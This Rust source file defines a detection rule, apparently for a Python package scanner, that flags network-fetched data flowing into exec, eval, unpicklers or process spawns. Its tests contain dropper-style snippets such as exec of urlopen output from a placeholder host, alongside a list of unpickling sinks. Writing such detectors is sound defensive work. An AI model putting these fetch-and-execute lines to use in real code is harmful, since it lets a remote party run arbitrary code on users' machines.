//! remote-code-execution: data fetched from the network reaches `exec`/`eval`/`compile`, a
//! process, or an unpickler — the classic dropper (`exec(urlopen(url).read())`).

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::facts::NET;
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "remote-code-execution",
    severity: Severity::Critical,
    summary: "Code downloaded at run time is executed (exec/eval of fetched data)",
    help: "Reports exec, eval, compile, types.FunctionType, pickle/marshal loads or a process \
           spawn whose argument comes from a network call (urlopen, requests, sockets) in the \
           same function. Downloading and running code lets the author change what runs on \
           every install without publishing a new version, and is the core of most droppers. \
           Critical at install or import time, high in a function body. A false alarm would be a \
           plugin system that deliberately fetches and runs code: that should still be reviewed.",
};

const SINKS: &[&str] = &[
    "pickle.loads",
    "marshal.loads",
    "cPickle.loads",
    "__import__",
    "dill.loads",
];

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    for c in &facts.calls {
        let sink = c.is_code_exec() || c.is_process() || SINKS.contains(&c.name.as_str());
        if sink && c.arg_taint() & NET != 0 {
            // Unpickling what a socket delivers inside a function (IPC between a program's
            // own processes) is a risk, not a dropper; exec of fetched code is one anywhere.
            let unpickle = SINKS.contains(&c.name.as_str()) && c.name != "__import__";
            let sev = if unpickle {
                c.ctx.pick(Severity::Critical, Severity::Medium)
            } else {
                c.ctx.pick(Severity::Critical, Severity::High)
            };
            out.emit(
                &INFO,
                sev,
                Confidence::High,
                c.line,
                format!(
                    "`{}` runs data fetched from the network {}",
                    c.name,
                    c.ctx.label()
                ),
                c.note.as_deref(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn exec_of_urlopen_is_critical_at_import() {
        let src = "import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid/p').read())\n";
        assert_eq!(
            worst("remote-code-execution", "pkg/__init__.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn data_flow_through_names() {
        let src = "import requests as r\ndef f():\n    resp = r.get('https://x.example.invalid')\n    code = resp.text\n    exec(code)\n";
        assert_eq!(
            worst("remote-code-execution", "pkg/m.py", src),
            Some(Severity::High)
        );
    }

    #[test]
    fn exec_of_local_file_is_fine() {
        let src = "exec(open('version.py').read())\nimport requests\nx = requests.get('https://example.invalid').json()\nprint(eval('1+1'))\n";
        assert_eq!(
            worst("remote-code-execution", "pkg-1.0/setup.py", src),
            None
        );
    }
}
